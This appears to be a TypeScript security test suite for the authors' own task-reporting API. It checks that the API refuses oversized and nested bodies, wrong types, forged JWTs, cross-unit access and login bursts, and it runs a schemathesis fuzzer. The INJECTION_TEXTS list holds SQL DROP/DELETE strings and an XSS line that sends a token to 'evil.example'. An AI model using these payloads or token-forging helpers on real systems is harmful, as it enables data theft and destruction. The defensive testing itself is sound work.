import { createHmac } from 'node:crypto';
import { existsSync, mkdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { request as httpRequest } from 'node:http';
import type { ActionClient } from './actions';
import { newKey, postJson } from './actions';
import { queryState, type Sql } from './ledger-checks';
import { REPO_ROOT, runToEnd } from './processes';
import type { Markers, TaskQuarterUnderTest } from './stream';
import { headDecision, submission } from './stream';

/** One row of the results table: what was tried, how often, and what got through. */
export interface AttackResult {
  attack: string;
  tried: number;
  letThrough: string[];
  notes?: string;
}

interface RawAnswer {
  status: number;
  text: string;
}

/** Sends raw bytes with any content type (the typed client only speaks JSON). */
export function sendRaw(
  url: string,
  method: string,
  body: Buffer | string,
  headers: Record<string, string>,
): Promise<RawAnswer> {
  const payload = typeof body === 'string' ? Buffer.from(body) : body;
  return new Promise((resolve, reject) => {
    const req = httpRequest(
      url,
      { method, headers: { 'content-length': String(payload.length), ...headers } },
      (res) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () =>
          resolve({ status: res.statusCode ?? 0, text: Buffer.concat(chunks).toString('utf8') }),
        );
        res.on('error', reject);
      },
    );
    req.on('error', reject);
    req.end(payload);
  });
}

const b64url = (value: string | Buffer): string => Buffer.from(value).toString('base64url');

/** A JWT with the given header and claims, HMAC-SHA256-signed with `secret` (or unsigned). */
export function mintToken(
  header: Record<string, unknown>,
  claims: Record<string, unknown>,
  secret: string | null,
): string {
  const head = `${b64url(JSON.stringify(header))}.${b64url(JSON.stringify(claims))}`;
  if (secret === null) return `${head}.`;
  return `${head}.${createHmac('sha256', secret).update(head).digest('base64url')}`;
}

export function claimsOf(token: string): Record<string, unknown> {
  return JSON.parse(Buffer.from(token.split('.')[1], 'base64url').toString('utf8')) as Record<
    string,
    unknown
  >;
}

interface Ctx {
  baseUrl: string;
  client: ActionClient;
  sql: Sql;
  markers: Markers;
  temporal: Parameters<typeof queryState>[0];
  jwtSecret: string;
}

const isServerError = (status: number): boolean => status >= 500 || status === 0;

/** Oversized bodies and deeply nested JSON: refused with 4xx, never a 5xx, nothing stored. */
export async function oversizedAndNested(
  ctx: Ctx,
  tq: TaskQuarterUnderTest,
): Promise<AttackResult[]> {
  const unit = tq.units[0];
  const token = await ctx.client.token(`${unit}.staff`);
  const url = `${ctx.baseUrl}/api/task-quarters/${encodeURIComponent(tq.id)}/submissions`;
  const headers = { 'content-type': 'application/json', authorization: `Bearer ${token}` };
  const oversized: Array<[string, string]> = [
    ['summary of 3 MB', JSON.stringify({ status: 'completed', summary: '报'.repeat(1_000_000) })],
    ['summary of 200 kB', JSON.stringify({ status: 'completed', summary: 'x'.repeat(200_000) })],
    ['10 MB of whitespace', `{"status":"completed","summary":"a"${' '.repeat(10_000_000)}}`],
    [
      '100 000 figures',
      JSON.stringify({
        status: 'completed',
        summary: 'ok',
        figures: Object.fromEntries(Array.from({ length: 100_000 }, (_, i) => [`k${i}`, i])),
      }),
    ],
  ];
  const nest = (depth: number, open: string, close: string, inner: string): string =>
    open.repeat(depth) + inner + close.repeat(depth);
  const nested: Array<[string, string]> = [
    [
      'figures nested 5 000 objects deep',
      `{"status":"completed","summary":"ok","figures":${nest(5_000, '{"a":', '}', '1')}}`,
    ],
    [
      'summary nested 100 000 arrays deep',
      `{"status":"completed","summary":${nest(100_000, '[', ']', '"x"')}}`,
    ],
    ['body nested 400 000 arrays deep', nest(400_000, '[', ']', '1')],
    [
      'explanation as a nested object',
      `{"status":"partial","summary":"ok","explanation":${nest(1_000, '{"a":', '}', '"x"')}}`,
    ],
  ];
  const run = async (name: string, cases: Array<[string, string]>): Promise<AttackResult> => {
    const letThrough: string[] = [];
    for (const [label, body] of cases) {
      const answer = await sendRaw(url, 'POST', body, {
        ...headers,
        'idempotency-key': newKey('big'),
      }).catch((e: Error) => ({ status: 0, text: e.message }));
      if (isServerError(answer.status) || answer.status < 400) {
        letThrough.push(`${label}: HTTP ${answer.status} ${answer.text.slice(0, 160)}`);
      }
    }
    const state = await queryState(ctx.temporal, tq.id);
    const stored = state.units.flatMap((u) => u.reports).length;
    if (stored > 0) letThrough.push(`${stored} report versions stored from refused bodies`);
    return { attack: name, tried: cases.length, letThrough };
  };
  return [
    await run('oversized bodies (200 kB – 10 MB)', oversized),
    await run('deeply nested JSON bodies', nested),
  ];
}

/** JSON of the wrong types: refused with 400, never coerced into text such as "[object Object]". */
export async function wrongJsonTypes(ctx: Ctx, tq: TaskQuarterUnderTest): Promise<AttackResult> {
  const unit = tq.units[0];
  const token = await ctx.client.token(`${unit}.staff`);
  const url = `${ctx.baseUrl}/api/task-quarters/${encodeURIComponent(tq.id)}/submissions`;
  const cases: Array<[string, unknown]> = [
    ['summary as an object', { status: 'completed', summary: { a: 1 } }],
    ['summary as an array', { status: 'completed', summary: ['x'] }],
    ['summary as a number', { status: 'completed', summary: 12345 }],
    ['explanation as an object', { status: 'partial', summary: 'ok', explanation: { a: 'b' } }],
    ['status as an array', { status: ['completed'], summary: 'ok' }],
    ['summary as true', { status: 'completed', summary: true }],
  ];
  const letThrough: string[] = [];
  for (const [label, body] of cases) {
    const answer = await postJson(url, body, {
      authorization: `Bearer ${token}`,
      'idempotency-key': newKey('type'),
    }).catch((e: Error) => ({ status: 0, body: e.message }));
    if (answer.status !== 400) {
      letThrough.push(
        `${label}: HTTP ${answer.status} ${JSON.stringify(answer.body).slice(0, 120)}`,
      );
    }
  }
  const state = await queryState(ctx.temporal, tq.id);
  for (const r of state.units.flatMap((u) => u.reports)) {
    letThrough.push(
      `stored: summary ${JSON.stringify(r.summary)}, explanation ${JSON.stringify(r.explanation)}`,
    );
  }
  return { attack: 'JSON fields of the wrong type in a report', tried: cases.length, letThrough };
}

/** Writes in other content types: refused (415/400), never applied, never a 5xx. */
export async function wrongContentTypes(ctx: Ctx, tq: TaskQuarterUnderTest): Promise<AttackResult> {
  const unit = tq.units[0];
  const token = await ctx.client.token(`${unit}.staff`);
  const url = `${ctx.baseUrl}/api/task-quarters/${encodeURIComponent(tq.id)}/submissions`;
  const json = JSON.stringify({ status: 'completed', summary: 'content-type probe' });
  const cases: Array<[string, string, string]> = [
    ['text/plain', 'text/plain', json],
    ['form', 'application/x-www-form-urlencoded', 'status=completed&summary=probe'],
    [
      'multipart',
      'multipart/form-data; boundary=X',
      `--X\r\nContent-Disposition: form-data; name="summary"\r\n\r\nprobe\r\n--X--\r\n`,
    ],
    ['xml', 'application/xml', '<r><status>completed</status><summary>probe</summary></r>'],
    ['json with a wrong charset', 'application/json; charset=utf-7', json],
    ['no content type', '', json],
    ['json content type, invalid JSON', 'application/json', '{"status":"completed",'],
    ['json content type, a bare string', 'application/json', '"completed"'],
  ];
  const letThrough: string[] = [];
  for (const [label, type, body] of cases) {
    const headers: Record<string, string> = {
      authorization: `Bearer ${token}`,
      'idempotency-key': newKey('ct'),
    };
    if (type) headers['content-type'] = type;
    const answer = await sendRaw(url, 'POST', body, headers).catch((e: Error) => ({
      status: 0,
      text: e.message,
    }));
    if (isServerError(answer.status) || answer.status < 400) {
      letThrough.push(`${label}: HTTP ${answer.status} ${answer.text.slice(0, 160)}`);
    }
  }
  const state = await queryState(ctx.temporal, tq.id);
  const stored = state.units.flatMap((u) => u.reports).length;
  if (stored > 0) letThrough.push(`${stored} report versions stored`);
  return { attack: 'wrong content types on a write', tried: cases.length, letThrough };
}

export const INJECTION_TEXTS = [
  "'; DROP TABLE report_version; --",
  'Robert"); DELETE FROM decision WHERE (1=1 --',
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror="fetch(`//evil.example/`+localStorage.token)">',
  '<a href="javascript:alert(1)">详情</a> &lt;b&gt; &amp;',
  '{{7*7}} ${7*7} <%= 7*7 %> \u202e反转 \u0007',
];

/**
 * Summaries and comments holding SQL, HTML and script: accepted as text and stored byte for byte
 * (workflow state, Postgres, the API's answer); the tables are all still there.
 */
export async function injectionTexts(ctx: Ctx, tq: TaskQuarterUnderTest): Promise<AttackResult> {
  const letThrough: string[] = [];
  const unit = tq.units[0];
  let tried = 0;
  for (const text of INJECTION_TEXTS) {
    tried += 1;
    const action = submission(ctx.markers, tq.id, unit, 'completed');
    const summary = `${action.marker} ${text}`;
    action.body = { ...action.body, summary };
    const outcome = await ctx.client.perform(action);
    if (!outcome.accepted) {
      // A refusal (e.g. of a NUL character) is safe; note it rather than count it as let through.
      continue;
    }
    const state = await queryState(ctx.temporal, tq.id);
    const inState = state.units.flatMap((u) => u.reports).filter((r) => r.summary === summary);
    if (inState.length !== 1)
      letThrough.push(`${JSON.stringify(text)}: ${inState.length}× in the state`);
    const rows = await waitForRows(ctx.sql, summary);
    if (rows !== 1) letThrough.push(`${JSON.stringify(text)}: ${rows}× verbatim in Postgres`);
    const token = await ctx.client.token('office');
    const res = await fetch(`${ctx.baseUrl}/api/task-quarters/${encodeURIComponent(tq.id)}`, {
      headers: { authorization: `Bearer ${token}` },
    });
    const raw = await res.text();
    if (!JSON.stringify(JSON.parse(raw)).includes(JSON.stringify(summary).slice(1, -1))) {
      letThrough.push(
        `${JSON.stringify(text)}: not returned verbatim by GET /api/task-quarters/:id`,
      );
    }
    const head = headDecision(ctx.markers, tq.id, unit, 'return');
    head.body = { decision: 'return', comment: `${head.marker} ${text}` };
    tried += 1;
    const decided = await ctx.client.perform(head);
    if (decided.accepted) {
      const stateAfter = await queryState(ctx.temporal, tq.id);
      if (!stateAfter.decisions.some((d) => d.comment === head.body.comment)) {
        letThrough.push(`${JSON.stringify(text)}: head comment not stored verbatim`);
      }
    }
  }
  const tables = await ctx.sql<{ n: number }>(
    `SELECT count(*)::int AS n FROM information_schema.tables
      WHERE table_name IN ('report_version','decision','task_quarter','audit_event','notice')`,
  );
  if (tables[0].n !== 5) letThrough.push(`only ${tables[0].n} of 5 projection tables remain`);
  return {
    attack: 'SQL, HTML and <script> in summaries and comments',
    tried,
    letThrough,
    notes: 'stored and returned as text, byte for byte',
  };
}

/**
 * A summary holding a NUL character (U+0000): Postgres text cannot hold it, so it must either be
 * refused with a 4xx or be stored in a form the projection accepts; it must never be accepted by
 * the workflow and then wedge the task-quarter's projection.
 */
export async function nulCharacter(ctx: Ctx, tq: TaskQuarterUnderTest): Promise<AttackResult> {
  const letThrough: string[] = [];
  const unit = tq.units[0];
  const action = submission(ctx.markers, tq.id, unit, 'completed');
  const summary = `${action.marker} 报送\u0000截断`;
  action.body = { ...action.body, summary };
  const outcome = await ctx.client.perform(action, { deadlineMs: 60_000 });
  if (outcome.accepted) {
    const state = await queryState(ctx.temporal, tq.id);
    const deadline = Date.now() + 60_000;
    let projected = false;
    while (!projected && Date.now() < deadline) {
      const rows = await ctx.sql<{ seq: number }>('SELECT seq FROM task_quarter WHERE id = $1', [
        tq.id,
      ]);
      projected = Number(rows[0]?.seq) === state.seq;
      if (!projected) await new Promise((r) => setTimeout(r, 500));
    }
    if (!projected) {
      letThrough.push(
        `accepted (HTTP ${outcome.status}) but never projected: Postgres rejects 0x00 in text, recordTaskQuarter retries forever and the task-quarter's projection stays behind`,
      );
    }
    const later = await ctx.client
      .perform(headDecision(ctx.markers, tq.id, unit, 'approve'), { deadlineMs: 60_000 })
      .catch((e: Error) => e);
    if (later instanceof Error) letThrough.push(`the next action got no answer: ${later.message}`);
    else if (!later.accepted) letThrough.push(`the next action was refused: HTTP ${later.status}`);
  }
  return {
    attack: 'a NUL character (U+0000) in a summary',
    tried: 1,
    letThrough,
    notes: outcome.accepted
      ? 'accepted by the API and the workflow'
      : `refused: HTTP ${outcome.status}`,
  };
}

async function waitForRows(sql: Sql, summary: string): Promise<number> {
  const deadline = Date.now() + 60_000;
  for (;;) {
    const rows = await sql<{ n: number }>(
      'SELECT count(*)::int AS n FROM report_version WHERE summary = $1',
      [summary],
    );
    if (rows[0].n > 0 || Date.now() > deadline) return rows[0].n;
    await new Promise((r) => setTimeout(r, 200));
  }
}

/**
 * Forged and misused tokens: `alg: none`, a wrong signature, an expired one, a tampered role, and
 * real users acting for a unit that is not theirs. Each must be refused and change nothing.
 */
export async function tokenAttacks(
  ctx: Ctx,
  tq: TaskQuarterUnderTest,
  otherUnit: string,
): Promise<AttackResult> {
  const letThrough: string[] = [];
  const unit = tq.units[0];
  const staff = await ctx.client.token(`${unit}.staff`);
  const office = await ctx.client.token('office');
  const now = Math.floor(Date.now() / 1000);
  const officeClaims = claimsOf(office);
  const staffClaims = claimsOf(staff);
  const forged: Array<[string, string]> = [
    ['alg none', mintToken({ alg: 'none', typ: 'JWT' }, officeClaims, null)],
    [
      'alg None, signature kept',
      `${mintToken({ alg: 'None', typ: 'JWT' }, officeClaims, null)}${office.split('.')[2]}`,
    ],
    [
      'wrong signing secret',
      mintToken({ alg: 'HS256', typ: 'JWT' }, officeClaims, 'not-the-secret-at-all-0123456789'),
    ],
    [
      'expired an hour ago',
      mintToken(
        { alg: 'HS256', typ: 'JWT' },
        { ...officeClaims, iat: now - 7200, exp: now - 3600 },
        ctx.jwtSecret,
      ),
    ],
    [
      'staff token with its role changed to office',
      `${office.split('.')[0]}.${b64url(JSON.stringify({ ...staffClaims, role: 'office' }))}.${staff.split('.')[2]}`,
    ],
    [
      'HS512 with the right secret',
      (() => {
        const head = `${b64url(JSON.stringify({ alg: 'HS512', typ: 'JWT' }))}.${b64url(JSON.stringify(officeClaims))}`;
        return `${head}.${createHmac('sha512', ctx.jwtSecret).update(head).digest('base64url')}`;
      })(),
    ],
    ['garbage', 'not.a.token'],
  ];
  const deadline = new Date(Date.now() + 30 * 86_400_000).toISOString();
  for (const [label, token] of forged) {
    const answer = await postJson(
      `${ctx.baseUrl}/api/task-quarters/${encodeURIComponent(tq.id)}/deadline`,
      { deadline, reason: `forged ${label}` },
      { authorization: `Bearer ${token}`, 'idempotency-key': newKey('forged') },
    );
    if (answer.status !== 401) letThrough.push(`${label}: HTTP ${answer.status}`);
  }
  // Real users of another unit.
  const foreign: Array<[string, string, unknown]> = [
    [`${otherUnit}.staff`, '/submissions', { status: 'completed', summary: 'foreign unit report' }],
    [
      `${otherUnit}.head`,
      `/units/${encodeURIComponent(unit)}/decision`,
      { decision: 'approve', comment: 'foreign head' },
    ],
    [`${unit}.staff`, '/review', { decision: 'approve', comment: 'staff as office' }],
    [`${unit}.head`, '/submissions', { status: 'completed', summary: 'head as staff' }],
  ];
  for (const [username, path, body] of foreign) {
    const token = await ctx.client.token(username);
    const answer = await postJson(
      `${ctx.baseUrl}/api/task-quarters/${encodeURIComponent(tq.id)}${path}`,
      body,
      { authorization: `Bearer ${token}`, 'idempotency-key': newKey('foreign') },
    );
    if (answer.status !== 403) letThrough.push(`${username} POST ${path}: HTTP ${answer.status}`);
  }
  const state = await queryState(ctx.temporal, tq.id);
  if (state.deadlineHistory.some((c) => c.reason.startsWith('forged'))) {
    letThrough.push('a forged token moved the deadline');
  }
  const texts = [
    ...state.units.flatMap((u) => u.reports.map((r) => r.summary)),
    ...state.decisions.map((d) => d.comment),
  ];
  for (const t of ['foreign unit report', 'foreign head', 'staff as office', 'head as staff']) {
    if (texts.includes(t)) letThrough.push(`stored: ${t}`);
  }
  return {
    attack: "forged tokens (alg none, wrong signature, expired, tampered) and another unit's users",
    tried: forged.length + foreign.length,
    letThrough,
  };
}

/** 100 logins with wrong passwords for one account: the throttle refuses all beyond its limit. */
export async function loginBurst(
  baseUrl: string,
  username: string,
  password: string,
  limit = 5,
): Promise<AttackResult> {
  const attempts = 100;
  const answers = await Promise.all(
    Array.from({ length: attempts }, (_, i) =>
      postJson(`${baseUrl}/api/auth/login`, { username, password: `wrong-${i}` }, {}).catch(() => ({
        status: 0,
        body: null,
      })),
    ),
  );
  const evaluated = answers.filter((a) => a.status === 401).length;
  const throttled = answers.filter((a) => a.status === 429).length;
  const letThrough: string[] = [];
  if (evaluated > limit) letThrough.push(`${evaluated} wrong passwords evaluated (limit ${limit})`);
  if (answers.some((a) => a.status === 200)) letThrough.push('a wrong password logged in');
  const other = answers.filter((a) => ![401, 429].includes(a.status));
  if (other.length) letThrough.push(`${other.length} answers neither 401 nor 429`);
  // Even the right password waits out the lockout.
  const right = await postJson(`${baseUrl}/api/auth/login`, { username, password }, {});
  if (right.status !== 429)
    letThrough.push(`the right password during the lockout: HTTP ${right.status}`);
  return {
    attack: 'login burst: 100 concurrent wrong passwords for one account',
    tried: attempts + 1,
    letThrough,
    notes: `${evaluated} evaluated, ${throttled} throttled (429)`,
  };
}

export const SCHEMATHESIS_VERSION = '4.32.5';
const SCHEMATHESIS_DIR = join(REPO_ROOT, '.tools', 'schemathesis');

/** Installs the pinned schemathesis into .tools/schemathesis (a venv) unless it is there. */
export async function ensureSchemathesis(): Promise<string> {
  const bin = join(SCHEMATHESIS_DIR, 'bin', 'schemathesis');
  const pip = join(SCHEMATHESIS_DIR, 'bin', 'pip');
  const marker = join(SCHEMATHESIS_DIR, 'duban-pin');
  if (
    existsSync(bin) &&
    existsSync(marker) &&
    readFileSync(marker, 'utf8').trim() === SCHEMATHESIS_VERSION
  ) {
    return bin;
  }
  mkdirSync(join(REPO_ROOT, '.tools'), { recursive: true });
  for (const [cmd, args] of [
    ['python3', ['-m', 'venv', SCHEMATHESIS_DIR]],
    [pip, ['install', '--quiet', `schemathesis==${SCHEMATHESIS_VERSION}`]],
  ] as Array<[string, string[]]>) {
    const { code, output } = await runToEnd(cmd, args, process.env, 600_000);
    if (code !== 0) throw new Error(`${cmd} ${args.join(' ')} failed:\n${output}`);
  }
  const { code } = await runToEnd(
    'sh',
    ['-c', `echo ${SCHEMATHESIS_VERSION} > "${marker}"`],
    process.env,
  );
  if (code !== 0) throw new Error('cannot mark the schemathesis install');
  return bin;
}

/**
 * Schemathesis against /api/docs-json with an office token: checks for 5xx, responses outside
 * the documented schema, status codes and content types. Logout is left out (it would revoke the
 * token the fuzzer uses); login is fuzzed last by the caller's order of attacks.
 */
export async function schemathesis(
  baseUrl: string,
  officeToken: string,
  reportDir: string,
  { maxExamples = 25, maxTimeS = 180 } = {},
): Promise<{ results: AttackResult[]; output: string; exitCode: number | null }> {
  const bin = await ensureSchemathesis();
  mkdirSync(reportDir, { recursive: true });
  const junit = join(reportDir, 'junit.xml');
  const { code, output } = await runToEnd(
    bin,
    [
      'run',
      `${baseUrl}/api/docs-json`,
      '--url',
      baseUrl,
      '--header',
      `Authorization: Bearer ${officeToken}`,
      '--checks',
      'not_a_server_error,response_schema_conformance,status_code_conformance,content_type_conformance',
      '--exclude-path',
      '/api/auth/logout',
      '--phases',
      'examples,coverage,fuzzing',
      '--max-examples',
      String(maxExamples),
      '--max-time',
      String(maxTimeS),
      '--workers',
      '2',
      '--seed',
      '20171231',
      '--no-color',
      '--request-timeout',
      '60',
      '--report',
      'junit',
      '--report-junit-path',
      junit,
      '--warnings',
      'off',
    ],
    { ...process.env, SCHEMATHESIS_TELEMETRY: 'false' },
    (maxTimeS + 300) * 1000,
  );
  const tried = Number(/(\d+)\s+generated/.exec(output)?.[1] ?? 0);
  const { serverErrors, schemaGaps } = existsSync(junit)
    ? failuresFromJunit(readFileSync(junit, 'utf8'))
    : { serverErrors: [`no JUnit report; exit code ${code}`], schemaGaps: [] };
  return {
    results: [
      {
        attack: 'schemathesis (office token): 5xx answers and bodies outside the documented schema',
        tried,
        letThrough: serverErrors,
        notes: `schemathesis ${SCHEMATHESIS_VERSION}, exit code ${code}`,
      },
      {
        attack:
          'schemathesis: status codes and content types the OpenAPI document does not declare',
        tried,
        letThrough: schemaGaps,
        notes: 'gaps in /api/docs-json, not in the answers themselves',
      },
    ],
    output,
    exitCode: code,
  };
}

/** One line per operation and failed check, from the JUnit report: what came back, what is documented. */
export function failuresFromJunit(xml: string): { serverErrors: string[]; schemaGaps: string[] } {
  const unescape = (t: string): string =>
    t
      .replace(/&lt;/g, '<')
      .replace(/&gt;/g, '>')
      .replace(/&quot;/g, '"')
      .replace(/&apos;/g, "'")
      .replace(/&amp;/g, '&');
  const serverErrors = new Set<string>();
  const schemaGaps = new Set<string>();
  for (const tc of xml.matchAll(/<testcase name="([^"]*)"[^>]*>([\s\S]*?)<\/testcase>/g)) {
    const operation = unescape(tc[1]);
    for (const f of tc[2].matchAll(/<failure[^>]*>([\s\S]*?)<\/failure>/g)) {
      const body = unescape(f[1]);
      const received = /Received: (\d+)/.exec(body)?.[1];
      const documented = /Documented: ([^\n]*)/.exec(body)?.[1];
      const curl = /(curl [^\n]*)/.exec(body)?.[1] ?? '';
      for (const check of body.matchAll(/^- (ST\d+ [^\n]*)$/gm)) {
        const line = `${operation}: ${check[1]}${received ? ` — received ${received}` : ''}${documented ? ` (documented: ${documented})` : ''}`;
        if (/^ST10[12] /.test(check[1]) || (received && Number(received) >= 500)) {
          serverErrors.add(`${line}; reproduce: ${curl}`);
        } else {
          schemaGaps.add(line);
        }
      }
    }
  }
  return { serverErrors: [...serverErrors].sort(), schemaGaps: [...schemaGaps].sort() };
}
